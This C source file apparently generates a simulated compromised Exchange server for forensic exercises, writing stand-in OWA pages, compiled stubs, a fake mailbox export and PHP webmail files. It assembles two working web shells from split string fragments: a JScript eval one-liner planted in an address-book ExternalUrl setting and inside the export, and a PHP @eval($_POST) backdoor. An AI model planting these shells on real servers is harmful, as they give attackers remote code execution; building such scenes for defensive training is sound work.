#include "pages.h"

#include "base/buf.h"

#include <inttypes.h>
#include <string.h>

#define AUTH     "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/"
#define ECP_AUTH "Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/auth/"
#define COMPILED \
    "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/8e05b027/e164d61b/"

enum { PAGE_MAX_SIZE = 65536 };

#define INSTALLED      INT64_C(1608022800) /* 2020-12-15 09:00 */
#define RECYCLED_AFTER INT64_C(11112)      /* the nightly compilation, seconds after midnight */

static const char *const shipped[] = {
    AUTH "errorFE.aspx",     AUTH "expiredpassword.aspx",
    AUTH "frowny.aspx",      AUTH "logoff.aspx",
    AUTH "logon.aspx",       AUTH "OutlookCN.aspx",
    AUTH "signout.aspx",     AUTH "RedirSuiteServiceProxy.aspx",
    AUTH "SvmFeedback.aspx", ECP_AUTH "TimeoutLogout.aspx",
};

static const char *const compiled_pages[] = {"logon.aspx", "errorfe.aspx"};

static str join(struct arena *a, const char *const *parts, size_t count)
{
    str whole = STR("");
    for (size_t i = 0; i < count; i++) {
        whole = arena_printf(a, "%.*s%s", STR_ARG(whole), parts[i]);
    }
    return whole;
}

const char *shell_line(struct arena *a)
{
    static const char *const parts[] = {
        "<scr",           "ipt lang",    "uage=\"JS",  "cript\" run", "at=\"ser",
        "ver\">",         "function Pa", "ge_Load(){", "ev",          "al(Req",
        "uest[\"tbl\"],", "\"un",        "safe\");}",  "</scr",       "ipt>",
    };
    return join(a, parts, ARRAY_LEN(parts)).p;
}

/* Not Microsoft's text: only the name and the kind of content are theirs. */
static bool write_shipped_page(struct scene *s, const char *path)
{
    str content = arena_printf(
        s->arena,
        "<%%@ Page Language=\"C#\" AutoEventWireup=\"false\" %%>\r\n<!DOCTYPE html>\r\n<html>\r\n"
        "<head><title>Outlook</title></head>\r\n<body>\r\n<p>%.*s</p>\r\n"
        "<p><%%= Server.HtmlEncode(PageTitle) %%></p>\r\n</body>\r\n</html>\r\n",
        STR_ARG(str_base(str_of(path))));
    return ledger_file(s->ledger, path, content, time_of_unix(INSTALLED));
}

static bool write_compiled(struct scene *s, const char *page, const char *hash, usec t)
{
    str path = arena_printf(s->arena, COMPILED "%s.%s.compiled", page, hash);
    str content = arena_printf(
        s->arena,
        "<?xml version=\"1.0\" encoding=\"utf-8\"?>\r\n<preserve resultType=\"3\" "
        "virtualPath=\"/owa/auth/%s\" hash=\"%" PRIx64 "\" filehash=\"%" PRIx64
        "\" flags=\"110000\" assembly=\"App_Web_qhq0w2sk\">\r\n    <filedeps>\r\n        "
        "<filedep name=\"/owa/auth/%s\" />\r\n    </filedeps>\r\n</preserve>\r\n",
        page, chance_next(&s->chance), chance_next(&s->chance), page);
    return ledger_file(s->ledger, path.p, content, t);
}

bool pages_shipped(struct scene *s)
{
    bool written = true;
    for (size_t i = 0; i < ARRAY_LEN(shipped); i++) {
        written = write_shipped_page(s, shipped[i]) && written;
    }
    for (size_t i = 0; i < ARRAY_LEN(compiled_pages); i++) {
        usec t = s->begin + RECYCLED_AFTER * USEC_PER_SEC;
        written = write_compiled(s, compiled_pages[i], "cdcab7d2", t) && written;
    }
    return written;
}

/* ---- the intruder's page */

static void add_setting(struct buf *b, const char *name, const char *value)
{
    buf_printf(b, "%-31s : %s\r\n", name, value);
}

static const char *as_exchange_prints(struct arena *a, usec t)
{
    struct civil c = civil_of_time(t);
    return arena_printf(a, "%d/%d/%d %d:%02d:%02d AM", c.month, c.day, c.year, c.hour, c.minute,
                        c.second)
        .p;
}

/* What Exchange writes when the settings of the address book are reset: all of them, as text. */
static void add_settings(struct scene *s, struct buf *b, usec dropped)
{
    const char *when = as_exchange_prints(s->arena, dropped);
    const char *url = arena_printf(s->arena, "http://f/#%s", shell_line(s->arena)).p;
    const char *const settings[][2] = {
        {"Name",                            "OAB (Default Web Site)"                                             },
        {"PollInterval",                    "480"                                                                },
        {"OfflineAddressBooks",             ""                                                                   },
        {"RequireSSL",                      "True"                                                               },
        {"BasicAuthentication",             "False"                                                              },
        {"WindowsAuthentication",           "True"                                                               },
        {"OAuthAuthentication",             "False"                                                              },
        {"MetabasePath",                    "IIS://" SERVER_FQDN "/W3SVC/1/ROOT/OAB"                             },
        {"Path",                            EXCHANGE "FrontEnd\\HttpProxy\\OAB"                                  },
        {"ExtendedProtectionTokenChecking", "None"                                                               },
        {"ExtendedProtectionFlags",         ""                                                                   },
        {"ExtendedProtectionSPNList",       ""                                                                   },
        {"AdminDisplayVersion",             "Version 15.1 (Build 2106.2)"                                        },
        {"Server",                          SERVER                                                               },
        {"InternalUrl",                     "https://mail01.corp.example.com/OAB"                                },
        {"InternalAuthenticationMethods",   "WindowsIntegrated"                                                  },
        {"ExternalUrl",                     url                                                                  },
        {"ExternalAuthenticationMethods",   "WindowsIntegrated"                                                  },
        {"AdminDisplayName",                ""                                                                   },
        {"ExchangeVersion",                 "0.10 (14.0.100.0)"                                                  },
        {"DistinguishedName",
         "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" SERVER
         ",CN=Servers,CN=Exchange Administrative Group,DC=corp,DC=example,DC=com"                                },
        {"Identity",                        SERVER "\\OAB (Default Web Site)"                                    },
        {"Guid",                            "b1f0d0a4-5c3e-4a57-9f27-2f8f6a2f1c55"                               },
        {"ObjectCategory",                  "corp.example.com/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"},
        {"ObjectClass",                     "top"                                                                },
        {"WhenChanged",                     when                                                                 },
        {"WhenCreated",                     "12/15/2020 9:14:02 AM"                                              },
        {"WhenChangedUTC",                  when                                                                 },
        {"WhenCreatedUTC",                  "12/15/2020 9:14:02 AM"                                              },
        {"OrganizationId",                  ""                                                                   },
        {"OriginatingServer",               "dc01.corp.example.com"                                              },
        {"IsValid",                         "True"                                                               },
        {"ObjectState",                     "Changed"                                                            },
    };
    for (size_t i = 0; i < ARRAY_LEN(settings); i++) {
        add_setting(b, settings[i][0], settings[i][1]);
    }
}

bool pages_shell(struct scene *s, usec dropped, usec compiled)
{
    struct buf b;
    buf_init(&b, PAGE_MAX_SIZE);
    add_settings(s, &b, dropped);
    bool written = ledger_file(s->ledger, AUTH SHELL, buf_str(&b), dropped);
    buf_done(&b);
    return write_compiled(s, SHELL, "f5dba9b9", compiled) && written;
}

/* ---- a page that is an export of a mailbox */

enum { EXPORT_SIZE = 271360, DRAFT_AT = 21004 };

bool pages_exported(struct scene *s, const char *path, const char *name, usec written,
                    usec compiled)
{
    uint8_t *pst = ARENA_ARRAY(s->arena, uint8_t, EXPORT_SIZE);
    static const uint8_t magic[] = {'!', 'B', 'D', 'N'};
    for (size_t i = 0; i < EXPORT_SIZE; i++) {
        pst[i] = (uint8_t)(chance_next(&s->chance) >> 56);
    }
    memcpy(pst, magic, sizeof magic);
    str line = str_of(shell_line(s->arena));
    memcpy(pst + DRAFT_AT, line.p, line.len);
    str content = {(const char *)pst, EXPORT_SIZE};
    return ledger_file(s->ledger, path, content, written) &&
           write_compiled(s, name, "bbdc4ba5", compiled);
}

/* ---- a web mail in PHP */

bool pages_webmail(struct scene *s, const char *folder)
{
    static const char *const names[] = {"index.php",
                                        "installer/index.php",
                                        "plugins/archive/archive.php",
                                        "plugins/zipdownload/zipdownload.php",
                                        "program/include/iniset.php",
                                        "program/lib/mailbox.php",
                                        "program/actions/upload.php"};
    bool written = true;
    for (size_t i = 0; i < ARRAY_LEN(names); i++) {
        str content = arena_printf(
            s->arena,
            "<?php\n/* %s: part of the web mail. */\nnamespace Webmail;\n\nfinal class Part%zu\n{\n"
            "    public function title(array $settings): string\n    {\n"
            "        return htmlspecialchars($settings['title'] ?? 'Mail', ENT_QUOTES);\n    "
            "}\n}\n",
            names[i], i);
        const char *path = arena_printf(s->arena, "%s/%s", folder, names[i]).p;
        written = ledger_file(s->ledger, path, content, time_of_unix(INSTALLED)) && written;
    }
    return written;
}

bool pages_php_shell(struct scene *s, const char *path, usec written)
{
    static const char *const parts[] = {"<?p", "hp @ev", "al($_PO", "ST['k", "ey']);", " ?>\n"};
    return ledger_file(s->ledger, path, join(s->arena, parts, ARRAY_LEN(parts)), written);
}
